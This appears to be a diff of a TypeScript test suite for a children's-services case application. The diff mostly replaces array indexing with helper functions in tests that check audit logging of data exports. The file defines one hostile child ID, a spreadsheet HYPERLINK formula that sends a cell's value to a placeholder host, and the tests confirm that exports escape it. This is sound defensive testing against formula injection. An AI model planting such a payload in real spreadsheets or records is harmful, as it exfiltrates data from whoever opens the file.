@@ -11,6 +11,7 @@ import { export903 } from '../../src/main/core/io/ssda903/export'
 import { testEngine } from '../helpers/postgres'
 import { demoContext, tempDir } from '../helpers/tmp'
 import { meetingFixture } from './panel/fixture'
+import { firstOf, itemAt } from '../helpers/defined'
 
 const hostileId = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
 
@@ -76,7 +77,7 @@ describe('exports that carry names', () => {
   it('log the 903 export with the files it wrote', async () => {
     const ctx = await demoContext({ asOf: '2020-03-31', lookedAfter: 10 })
     const result = await export903(ctx, tempDir())
-    const [logged] = (await ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all()) as { who: string; after: string }[]
+    const logged = firstOf((await ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all()) as { who: string; after: string }[])
     expect(logged.who).toBe('tester')
     expect(JSON.parse(logged.after)).toEqual({
       what: `903 Header.csv and Episodes.csv: ${result.children} children, ${result.episodeRows} episodes`,
@@ -86,7 +87,7 @@ describe('exports that carry names', () => {
 
   it('escape a formula-like child ID in the decisions workbook and log who exported what, where', async () => {
     const { ctx, meetingId, children } = await meetingFixture()
-    await renameChild(ctx, children[0], hostileId)
+    await renameChild(ctx, firstOf(children), hostileId)
     await recordDecision(ctx, {
       itemId: (await ctx.db.prepare('SELECT id FROM agenda_item WHERE child_id = ?').pluck().get(hostileId)) as number,
       outcome: 'agreed',
@@ -101,8 +102,8 @@ describe('exports that carry names', () => {
     const logged = await exportsLogged(ctx)
     expect(logged.map((l) => l.action)).toEqual(['panel.decisions.export', 'panel.minutes.export', 'panel.letter.export'])
     expect(logged.every((l) => l.who === 'tester')).toBe(true)
-    expect(JSON.parse(logged[0].after)).toEqual({ what: expect.stringContaining(file.fileName), where: 'download' })
-    expect(JSON.parse(logged[2].after).what).toContain(hostileId)
+    expect(JSON.parse(firstOf(logged).after)).toEqual({ what: expect.stringContaining(file.fileName), where: 'download' })
+    expect(JSON.parse(itemAt(logged, 2).after).what).toContain(hostileId)
     expect((await checkDb(ctx.db)).audit.ok).toBe(true)
   })
 
@@ -115,7 +116,7 @@ describe('exports that carry names', () => {
     const ids = await cellsOf(file.contentBase64, 'Children', 1)
     expect(ids).toContain(`'${hostileId}`)
     expect(ids.some((v) => typeof v === 'string' && v.startsWith('='))).toBe(false)
-    const [logged] = await exportsLogged(ctx)
+    const logged = firstOf(await exportsLogged(ctx))
     expect(logged).toMatchObject({ who: 'tester', action: 'review.export', entity_id: String(cycle.id) })
     expect(JSON.parse(logged.after).where).toBe('/reports/q1.xlsx')
   })
